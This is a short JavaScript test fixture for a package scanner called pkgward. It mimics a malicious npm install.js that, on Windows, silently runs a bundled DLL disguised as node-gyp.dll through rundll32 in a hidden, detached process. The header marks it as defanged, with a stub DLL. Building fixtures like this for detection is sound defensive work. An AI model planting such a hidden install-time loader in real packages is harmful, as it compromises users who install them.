// DEFANGED TEST FIXTURE for pkgward: install.js DLL loader (2025 eslint-config-prettier shape). The DLL is a text stub. Never run.
const os = require('os');
const path = require('path');
const { spawn } = require('child_process');
if (os.platform() === 'win32') {
  const dll = path.join(__dirname, 'node-gyp.dll');
  try {
    spawn('rundll32', [dll + ',main'], { detached: true, stdio: 'ignore', windowsHide: true }).unref();
  } catch (e) {}
}
